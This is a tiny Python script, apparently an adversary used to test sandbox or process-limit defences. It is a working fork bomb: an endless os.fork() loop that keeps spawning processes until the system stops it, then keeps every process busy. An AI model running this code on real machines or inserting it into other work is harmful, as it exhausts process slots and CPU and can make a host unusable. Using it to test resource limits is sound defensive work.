"""Adversary: fork until something stops it, then keep every process busy."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
